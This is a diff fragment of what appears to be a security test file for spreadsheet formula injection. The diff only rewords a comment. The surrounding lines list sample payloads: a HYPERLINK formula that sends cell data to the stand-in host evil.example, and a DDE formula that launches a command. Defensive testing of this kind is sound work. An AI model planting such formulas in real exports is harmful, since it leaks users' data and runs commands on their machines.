@@ -7,7 +7,7 @@ import { usingAttackedSite } from '../attacked-site.ts';
 import { mustHold, noneOf, type AttackMeasurement } from '../attack-measurement.ts';
 import { runData } from '../data-command.ts';
 
-/** Texts that spreadsheets take for a formula, or run. */
+/** Texts that spreadsheets treat as a formula, or run. */
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
   "=cmd|' /C calc'!A0",
